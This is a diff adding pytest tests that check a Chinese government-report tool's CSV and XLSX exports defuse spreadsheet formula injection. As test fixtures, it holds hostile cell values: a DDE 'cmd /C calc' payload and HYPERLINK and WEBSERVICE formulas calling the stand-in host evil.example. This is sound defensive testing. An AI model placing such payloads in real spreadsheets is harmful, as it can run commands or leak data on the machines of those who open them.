@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 
@@ -159,3 +160,98 @@ def test_walker_and_ingest_sniff_by_content(tmp_path):
         reports = store.reports(is_report=True)
         assert sorted(s.agency for s in reports) == ["东坡区永寿镇人民政府", "青原区富田镇人民政府"]
         assert sorted(s.format for s in reports) == ["docx", "text"]
+
+
+# ---- 10. formula injection in exports ------------------------------------------------------------
+
+HOSTILE = {"agency": "=HYPERLINK(\"http://evil.example\",\"点此\")", "title": "+1+cmd|' /C calc'!A0",
+           "path": "@SUM(1+1)*cmd.txt"}
+
+
+@pytest.fixture
+def hostile_desk(tmp_path):
+    import dataclasses
+
+    from xxgk import parse_bytes
+
+    _, text = synth_text(81, agency="南江县云岭乡人民政府", year=2023)
+    report = parse_bytes(text.encode(), "r.txt", path=HOSTILE["path"])
+    report.meta = dataclasses.replace(report.meta, agency=HOSTILE["agency"], title=HOSTILE["title"])
+    d = Desk(tmp_path / "c.db")
+    d.store.add(report)
+    _, text2 = synth_text(82, agency="\t-临川区石门镇人民政府", year=2024)  # tab/minus at the start
+    d.store.add(parse_bytes(text2.encode(), "-2.txt", path="-2.txt"))
+    yield d
+    d.close()
+
+
+def _check_csv(body: bytes, store):
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    texts = [v for r in rows for v in r.values() if v]
+    assert texts and not [v for v in texts if v[0] in "=+-@\t\r"], [v for v in texts if v[0] in "=+-@\t\r"]
+    bad = next(r for r in rows if r["source_path"] == "'" + HOSTILE["path"])
+    assert bad["agency"] == "'" + HOSTILE["agency"] and bad["title"] == "'" + HOSTILE["title"]
+    # numbers are numbers: the stored values, unprefixed
+    s = store.reports(sha256=bad["sha256"])[0]
+    assert bad["year"] == str(s.year) and bad["n_errors"] == str(s.n_errors)
+    cell = "requests.new_received.natural_person"
+    assert int(bad[cell]) >= 0
+
+
+def _check_xlsx(body: bytes):
+    from openpyxl import load_workbook
+
+    ws = load_workbook(io.BytesIO(body)).worksheets[0]
+    header = [c.value for c in ws[1]]
+    seen = 0
+    for row in ws.iter_rows(min_row=2):
+        for c in row:
+            assert c.data_type != "f", (c.coordinate, c.value)
+            if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
+                seen += 1
+        year = row[header.index("年度")].value
+        assert isinstance(year, int)
+    values = {c.value for row in ws.iter_rows(min_row=2) for c in row}
+    assert {HOSTILE["agency"], HOSTILE["title"], HOSTILE["path"]} <= values  # exactly what the report said
+    assert seen >= 4
+
+
+def test_exports_neutralise_formulas_in_every_path(hostile_desk, tmp_path):
+    from xxgk.store.export import export
+
+    store = hostile_desk.store
+    export(store, tmp_path / "x.csv")
+    _check_csv((tmp_path / "x.csv").read_bytes(), store)
+    export(store, tmp_path / "x.xlsx")
+    _check_xlsx((tmp_path / "x.xlsx").read_bytes())
+    export(store, tmp_path / "long.csv", layout="long")
+    long_rows = list(csv.reader(io.StringIO((tmp_path / "long.csv").read_text("utf-8-sig"))))
+    assert all(not v or v[0] not in "=+-@\t\r" or re.fullmatch(r"-[0-9.]+", v) for r in long_rows for v in r)
+    for url in ("/api/export", "/export"):
+        _check_csv(hostile_desk.client.get(url, params={"format": "csv"}).content, store)
+        _check_xlsx(hostile_desk.client.get(url, params={"format": "xlsx"}).content)
+
+
+def test_form_xlsx_keeps_a_hostile_agency_literal(tmp_path):
+    from openpyxl import load_workbook
+
+    from xxgk.render.data import ReportData
+    from xxgk.render.form_xlsx import read_form, write_form
+
+    rd = ReportData.blank("2021")
+    rd.agency = "=WEBSERVICE(\"http://evil.example\")"
+    write_form(tmp_path / "f.xlsx", rd=rd)
+    ws = load_workbook(tmp_path / "f.xlsx")["填报说明"]
+    c = ws["B3"]
+    assert c.value == rd.agency and c.data_type == "s" and c.quotePrefix
+    assert read_form(tmp_path / "f.xlsx").agency == rd.agency
+
+
+def test_formula_like_text_and_numbers():
+    from xxgk.spreadsheet import csv_safe
+
+    for bad in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "-", "=", "-8a"):
+        assert csv_safe(bad) == "'" + bad
+    for fine in ("-8", "+3", "-1.5", "12", "南江县", "", "a=b", 5, -5, None):
+        assert csv_safe(fine) == fine
